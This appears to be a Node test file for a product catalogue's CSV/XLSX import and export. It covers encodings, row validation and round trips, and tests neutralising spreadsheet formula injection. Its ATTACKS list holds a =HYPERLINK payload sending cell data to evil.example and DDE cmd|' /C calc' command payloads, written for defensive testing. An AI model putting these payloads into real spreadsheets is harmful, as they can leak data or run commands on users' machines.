import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { testEngines } from '../../core/db/testing.ts';
import type { AppError } from '../../core/errors.ts';
import { countProducts, tinyMarket, type Market } from '../../../test/fixtures.ts';
import { columnLabel, createProduct, exportProducts, importProducts, listProducts, parseCsv, csvLine, SPREADSHEET_COLUMNS } from './index.ts';
import { csvDocument, neutraliseCell, restoreCell } from '../../core/csv.ts';
import { rowToInput, type ColumnKey } from './spreadsheet-columns.ts';
import { RowProblems, type SheetProblem } from './sheet-problems.ts';
import { sampleProduct } from '../../../test/fixtures.ts';

const HEADER = SPREADSHEET_COLUMNS.map((c) => c.key);
function row(leaf: string, sku: string, over: Record<string, string> = {}): string[] {
  const base: Record<string, string> = {
    sku,
    category: leaf,
    title_zh: `测试商品 ${sku}`,
    title_en: `Test item ${sku}`,
    unit: 'pcs',
    moq: '120',
    currency: 'CNY',
    price_1: '3.50',
    qty_2: '600',
    price_2: '3.2',
    stock: '1000',
    hs_code: '9615.1100.00',
    carton_units: '240',
    carton_length_cm: '50',
    carton_width_cm: '40',
    carton_height_cm: '35',
    carton_gross_kg: '12.5',
    attributes: 'material=alloy; colour=gold',
    images: 'https://example.com/a.jpg',
  };
  const r = { ...base, ...over };
  return HEADER.map((k) => r[k] ?? '');
}
const csv = (rows: string[][]) => Buffer.from(csvLine(HEADER) + rows.map(csvLine).join(''), 'utf8');

test('CSV reader handles quotes, commas, newlines and a BOM', () => {
  assert.deepEqual(parseCsv('\uFEFFa,"b,c","d ""e""",\r\n"x\ny",2\n'), [
    ['a', 'b,c', 'd "e"', ''],
    ['x\ny', '2'],
  ]);
});

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
];

test('CSV export cells beginning with = + - @ TAB CR (or ＝＋－＠) get a leading apostrophe; numbers such as -12.5 do not', () => {
  const [, row] = parseCsv(csvDocument(['a'], [[...ATTACKS, '-12.5', '+7', -12.5, 'plain', "'quoted"]]).toString('utf8'));
  assert.deepEqual(row, [...ATTACKS.map((a) => `'${a}`), '-12.5', '+7', '-12.5', 'plain', "'quoted"]);
});

test('import undoes the export neutralisation exactly, for every string (apostrophes included)', () => {
  const piece = fc.constantFrom("'", '=', '+', '-', '@', '＝', '\t', '\r', ' ', 'a', '1', '.', '保');
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 8 }).map((p) => p.join('')),
      (s) => restoreCell(neutraliseCell(s)) === s,
    ),
    { numRuns: 2000 },
  );
  assert.equal(restoreCell("'abc"), "'abc", 'an apostrophe not before a formula trigger is kept');
  assert.equal(restoreCell("'=1+1"), '=1+1');
});

test('a sheet cell holding a NUL character is a row problem naming the column, not a 500', () => {
  const cells: Partial<Record<ColumnKey, string>> = { sku: 'N-1', title_zh: '保温\u0000杯', moq: '1', price_1: '1', unit: 'pcs' };
  const problems = new RowProblems(7);
  rowToInput(
    (k) => cells[k] ?? '',
    problems,
    () => '010101',
  );
  const nul = problems.list.filter((p) => p.column === 'title_zh');
  assert.deepEqual(nul, [{ row: 7, column: 'title_zh', code: 'BAD_TEXT', params: { char: 'U+0000' } }]);
});

for (const engine of testEngines()) {
  describe(`spreadsheet import/export on ${engine}`, () => {
    let m: Market;
    let count: () => Promise<number>;
    before(async () => {
      m = await tinyMarket(engine);
      count = async () => (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '1' })).total;
    });
    after(() => m.d.close());

    test('a clean sheet imports completely, prices become minor units', async () => {
      const before = await count();
      const rep = await importProducts(
        m.d.db,
        m.merchant,
        csv([row(m.categoryLeaf, 'IMP-1'), row(m.categoryLeaf, 'IMP-2', { qty_2: '', price_2: '' })]),
        'csv',
      );
      assert.deepEqual(rep, { rows: 2, created: 2, updated: 0 });
      assert.equal(await count(), before + 2);
      const items = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items;
      const p = items.find((x) => x.sku === 'IMP-1')!;
      assert.deepEqual(p.priceTiers, [
        { minQty: 120, unitPrice: 350 },
        { minQty: 600, unitPrice: 320 },
      ]);
      assert.equal(p.hsCode, '9615110000');
      assert.deepEqual(p.attributes, { material: 'alloy', colour: 'gold' });
    });

    test('every problem of every row is reported once, as a code with parameters, and nothing is written', async () => {
      const before = await count();
      const rows = [
        row(m.categoryLeaf, 'OK-1'),
        row(m.categoryLeaf, 'BAD-PRICE', { price_1: '-2' }),
        row(m.categoryLeaf, 'BAD-CAT', { category: '不存在的类目' }),
        row(m.categoryLeaf, 'BAD-TIER', { price_2: '9.99' }),
        row(m.categoryLeaf, 'OK-1'),
        row(m.categoryLeaf, 'BAD-HS', { hs_code: '12' }),
        row(m.categoryLeaf, 'BAD-DEC', { price_1: '1.234' }),
        row(m.categoryLeaf, 'BAD-UNIT', { unit: 'bottles' }),
        row(m.categoryLeaf, 'BAD-CARTON', { carton_length_cm: 'big' }),
        // two problems in one row: both are listed
        row(m.categoryLeaf, 'TWO', { moq: 'many', hs_code: 'x1' }),
        // one problem that the MOQ and the first tier share (qty_1 blank): listed once
        row(m.categoryLeaf, 'ZERO-MOQ', { moq: '0' }),
        // three problems: unit, stock and a tier without its price
        row(m.categoryLeaf, 'THREE', { unit: '瓶子', stock: '-5', qty_3: '900' }),
      ];
      await assert.rejects(importProducts(m.d.db, m.merchant, csv(rows), 'csv'), (e: AppError) => {
        assert.equal(e.code, 'IMPORT_REJECTED');
        const d = e.details as { errorCount: number; errors: SheetProblem[] };
        const at = (r: number) => d.errors.filter((x) => x.row === r).map((x) => [x.column, x.code, x.params]);
        assert.deepEqual(at(2), [], 'row 2 is fine');
        assert.deepEqual(at(3), [['price_1', 'NOT_POSITIVE', { value: '-2', currency: 'CNY', decimals: 2 }]]);
        assert.deepEqual(at(4), [['category', 'UNKNOWN_CATEGORY', { value: '不存在的类目' }]]);
        assert.deepEqual(at(5), [['price_2', 'TIER_DEARER', { value: '9.99', previous: 350 }]]);
        assert.deepEqual(at(6), [['sku', 'DUPLICATE_SKU', { sku: 'OK-1', firstRow: 2 }]]);
        assert.deepEqual(at(7), [['hs_code', 'BAD_FORMAT', { value: '12', expected: 'hs_code' }]]);
        assert.deepEqual(at(8), [['price_1', 'TOO_MANY_DECIMALS', { value: '1.234', currency: 'CNY', decimals: 2 }]]);
        assert.deepEqual(at(9), [['unit', 'UNKNOWN_UNIT', { value: 'bottles' }]]);
        assert.deepEqual(at(10), [['carton_length_cm', 'NOT_NUMBER', { value: 'big' }]]);
        assert.deepEqual(at(11), [
          ['moq', 'NOT_WHOLE_NUMBER', { value: 'many' }],
          ['hs_code', 'BAD_FORMAT', { value: 'x1', expected: 'hs_code' }],
        ]);
        assert.deepEqual(at(12), [['moq', 'TOO_SMALL', { value: '0', min: 1 }]]);
        assert.deepEqual(at(13), [
          ['unit', 'UNKNOWN_UNIT', { value: '瓶子' }],
          ['price_3', 'TIER_INCOMPLETE', { tier: 3, missing: 'price_3' }],
          ['stock', 'NOT_WHOLE_NUMBER', { value: '-5' }],
        ]);
        assert.equal(d.errorCount, d.errors.length);
        const keys = d.errors.map((x) => `${x.row}/${x.column}`);
        assert.equal(new Set(keys).size, keys.length, 'no cell is reported twice');
        assert.ok(
          d.errors.every((x) => !('reason' in x) && /^[A-Z_]+$/.test(x.code)),
          'codes, not English text',
        );
        return true;
      });
      assert.equal(await count(), before, 'all or nothing');
    });

    test('units may be written as Rec 20 codes, English or Chinese names, and are stored as the catalogue key', async () => {
      const cases: [string, string][] = [
        ['个', 'pcs'],
        ['件', 'pcs'],
        ['只', 'pcs'],
        ['PCS', 'pcs'],
        ['piece', 'pcs'],
        ['H87', 'pcs'],
        ['套', 'set'],
        ['双', 'pair'],
        ['打', 'dozen'],
        ['DZN', 'dozen'],
        ['箱', 'carton'],
        ['CT', 'carton'],
        ['千克', 'kg'],
        ['KGM', 'kg'],
      ];
      const rows = cases.map(([u], i) => row(m.categoryLeaf, `UNIT-${i}`, { unit: u }));
      await importProducts(m.d.db, m.merchant, csv(rows), 'csv');
      const items = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items;
      for (const [i, [u, key]] of cases.entries()) assert.equal(items.find((p) => p.sku === `UNIT-${i}`)?.unit, key, u);
    });

    test('CSV in GB18030 (Excel on Chinese Windows), UTF-16 LE/BE with a BOM and UTF-8 with or without a BOM all read the same', async () => {
      const text = csvLine(SPREADSHEET_COLUMNS.map((c) => c.zh)) + csvLine(row(m.categoryLeaf, 'ENC-X', { title_zh: '义乌保温杯（不锈钢）', unit: '个' }));
      const encodings: Record<string, (t: string) => Buffer> = {
        'utf-8': (t) => Buffer.from(t, 'utf8'),
        'utf-8 bom': (t) => Buffer.from(`\uFEFF${t}`, 'utf8'),
        gb18030,
        'utf-16le': (t) => encode16(t, false),
        'utf-16be': (t) => encode16(t, true),
      };
      for (const [name, encode] of Object.entries(encodings)) {
        const sku = `ENC-${name.replace(/\W/g, '')}`;
        const file = encode(text.replace('ENC-X', sku));
        assert.equal((await importProducts(m.d.db, m.merchant, file, 'csv')).rows, 1, name);
        const p = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items.find((x) => x.sku === sku);
        assert.equal(p?.titleZh, '义乌保温杯（不锈钢）', name);
        assert.equal(p?.unit, 'pcs', name);
      }
    });

    test('headers in English labels, Chinese labels or keys, in any case and spacing, are read', async () => {
      const variants = [
        SPREADSHEET_COLUMNS.map((c) => c.en),
        SPREADSHEET_COLUMNS.map((c) => c.en.toUpperCase().replace(/ /g, '  ')),
        SPREADSHEET_COLUMNS.map((c) => ` ${c.zh} `),
        SPREADSHEET_COLUMNS.map((c) => c.key.toUpperCase()),
      ];
      for (const [i, header] of variants.entries()) {
        const data = Buffer.from(csvLine(header) + csvLine(row(m.categoryLeaf, `HDR-${i}`)), 'utf8');
        assert.equal((await importProducts(m.d.db, m.merchant, data, 'csv')).rows, 1, header.slice(0, 3).join(','));
      }
    });

    test('headers may be the Chinese labels; unknown or missing columns are named', async () => {
      const zhHeader = SPREADSHEET_COLUMNS.map((c) => c.zh);
      const data = Buffer.from(csvLine(zhHeader) + csvLine(row(m.categoryLeaf, 'ZH-1')), 'utf8');
      assert.equal((await importProducts(m.d.db, m.merchant, data, 'csv')).created, 1);
      const missing = Buffer.from('sku,colour\nA,red\n');
      await assert.rejects(importProducts(m.d.db, m.merchant, missing, 'csv'), (e: AppError) => {
        const errs = (e.details as { errors: { column: string }[] }).errors.map((x) => x.column);
        return e.code === 'IMPORT_REJECTED' && errs.includes('colour') && errs.includes('price_1');
      });
    });

    test('not a spreadsheet: a clear refusal', async () => {
      await assert.rejects(importProducts(m.d.db, m.merchant, Buffer.from('PK\u0003\u0004garbage'), 'xlsx'), (e: AppError) => e.code === 'BAD_SPREADSHEET');
      await assert.rejects(importProducts(m.d.db, m.merchant, Buffer.from('hello'), 'xlsx'), (e: AppError) => e.code === 'BAD_SPREADSHEET');
      await assert.rejects(importProducts(m.d.db, m.merchant, Buffer.from([0, 1, 2, 0]), 'csv'), (e: AppError) => e.code === 'BAD_SPREADSHEET');
      await assert.rejects(importProducts(m.d.db, m.buyer, csv([row(m.categoryLeaf, 'B')]), 'csv'), (e: AppError) => e.code === 'FORBIDDEN');
    });

    for (const format of ['csv', 'xlsx'] as const) {
      test(`export as ${format} and import back: the same products, updated in place`, async () => {
        const n = await count();
        const file = await exportProducts(m.d.db, m.merchant, format);
        if (format === 'xlsx') {
          const wb = new ExcelJS.Workbook();
          await wb.xlsx.load(file as unknown as ArrayBuffer);
          assert.equal(wb.worksheets[0]!.rowCount, n + 1);
        }
        const rep = await importProducts(m.d.db, m.merchant, file, format);
        assert.deepEqual(rep, { rows: n, created: 0, updated: n });
        assert.equal(await count(), n);
      });
    }

    test('a title =HYPERLINK(…) and other formula text export as text (csv: apostrophe; xlsx: string cell, no formula) and import back unchanged', async () => {
      const p = await createProduct(m.d.db, m.merchant, {
        ...sampleProduct(m.categoryLeaf, '-INJ-1'),
        titleEn: ATTACKS[0],
        titleZh: '＝1+1 保温杯',
        descriptionEn: ATTACKS[3],
        attributes: { '@cmd': ATTACKS[1]!, note: '=1+1' },
      });
      const csvFile = await exportProducts(m.d.db, m.merchant, 'csv');
      const [header, ...rows] = parseCsv(csvFile.toString('utf8'));
      const cell = (k: string) => rows.find((r) => r[0] === "'-INJ-1")![header!.indexOf(columnLabel(k, 'zh'))];
      assert.equal(cell('title_en'), `'${ATTACKS[0]}`);
      assert.equal(cell('title_zh'), "'＝1+1 保温杯");
      assert.equal(cell('description_en'), `'${ATTACKS[3]}`);
      assert.equal(cell('attributes'), `'@cmd=${ATTACKS[1]}; note==1+1`);
      assert.equal(cell('price_1'), '12.50');
      const xlsxFile = await exportProducts(m.d.db, m.merchant, 'xlsx');
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsxFile as unknown as ArrayBuffer);
      const ws = wb.worksheets[0]!;
      const titleCol = HEADER.indexOf('title_en') + 1;
      let found = 0;
      ws.eachRow((r) => {
        r.eachCell((c) => assert.ok(c.type !== ExcelJS.ValueType.Formula && c.formula === undefined, `no formula cells (${String(c.address)})`));
        if (r.getCell(1).value === '-INJ-1') {
          found++;
          assert.equal(r.getCell(titleCol).type, ExcelJS.ValueType.String);
          assert.equal(r.getCell(titleCol).value, ATTACKS[0]);
        }
      });
      assert.equal(found, 1);
      for (const [format, file] of [
        ['csv', csvFile],
        ['xlsx', xlsxFile],
      ] as const) {
        await importProducts(m.d.db, m.merchant, file, format);
        const back = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items.find((x) => x.id === p.id)!;
        assert.deepEqual([back.titleEn, back.titleZh, back.descriptionEn, back.attributes], [p.titleEn, p.titleZh, p.descriptionEn, p.attributes], format);
      }
    });

    test('a product with ten price tiers exports all ten and imports back with all ten (tiers 6–10 were dropped)', async () => {
      const tiers = Array.from({ length: 10 }, (_, i) => ({ minQty: 100 * (i + 1), unitPrice: 2000 - 100 * i }));
      const p = await createProduct(m.d.db, m.merchant, { ...sampleProduct(m.categoryLeaf, 'TEN-1'), priceTiers: tiers });
      for (const format of ['csv', 'xlsx'] as const) {
        await importProducts(m.d.db, m.merchant, await exportProducts(m.d.db, m.merchant, format), format);
        const back = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items.find((x) => x.id === p.id)!;
        assert.deepEqual(back.priceTiers, tiers, format);
      }
    });

    test('the operator cannot import goods for a buyer entity: 4xx and nothing written', async () => {
      const buyerId = m.buyer.entityId!;
      const goods = () => countProducts(m.d, buyerId);
      await assert.rejects(importProducts(m.d.db, m.operator, csv([row(m.categoryLeaf, 'FOR-BUYER-1')]), 'csv', { merchantId: buyerId }), (e: AppError) => {
        assert.equal(e.code, 'VALIDATION');
        assert.match(e.message, /not a merchant/);
        return true;
      });
      assert.equal(await goods(), 0);
    });

    test('thousands of rows import in batches inside one transaction', async () => {
      const rows = Array.from({ length: 3000 }, (_, i) => row(m.categoryLeaf, `BULK-${i}`));
      let writes = 0;
      const rep = await importProducts(m.d.db, m.merchant2, csv(rows), 'csv', { onProgress: (phase) => void (phase === 'write' && writes++) });
      assert.equal(rep.created, 3000);
      assert.ok(writes >= 6, 'progress reported per batch');
    });
  });
}

/** A text in GB18030 (the encoder is not in the platform: Chinese characters are looked up through the decoder). */
function gb18030(text: string): Buffer {
  const dec = new TextDecoder('gb18030');
  const table = new Map<string, number[]>();
  for (let hi = 0x81; hi <= 0xfe; hi++)
    for (let lo = 0x40; lo <= 0xfe; lo++) {
      if (lo === 0x7f) continue;
      const ch = dec.decode(Uint8Array.of(hi, lo));
      if (ch.length === 1 && !table.has(ch)) table.set(ch, [hi, lo]);
    }
  const out: number[] = [];
  for (const ch of text) {
    const c = ch.codePointAt(0)!;
    if (c < 0x80) out.push(c);
    else {
      const b = table.get(ch);
      if (!b) throw new Error(`no GB18030 two-byte form for ${ch}`);
      out.push(...b);
    }
  }
  return Buffer.from(out);
}

function encode16(text: string, bigEndian: boolean): Buffer {
  const b = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  if (bigEndian) b.swap16();
  return b;
}

test('the CLI words every problem code in Chinese and English, with the column as the reader names it', async () => {
  const { wordProblem, PROBLEM_CODES } = await import('./sheet-messages.ts');
  const p = { row: 3, column: 'price_1', code: 'TOO_MANY_DECIMALS', params: { value: '1.234', currency: 'CNY', decimals: 2 } };
  assert.equal(wordProblem(p, 'zh'), '第 3 行，价格1：“1.234”小数位太多；CNY 最多 2 位小数');
  assert.equal(wordProblem(p, 'en'), 'row 3, Price 1: "1.234" has too many decimals; CNY has at most 2');
  assert.match(wordProblem({ row: 2, column: 'unit', code: 'UNKNOWN_UNIT', params: { value: 'x' } }, 'zh'), /个、套、双/);
  assert.ok(PROBLEM_CODES.includes('DUPLICATE_SKU'));
});
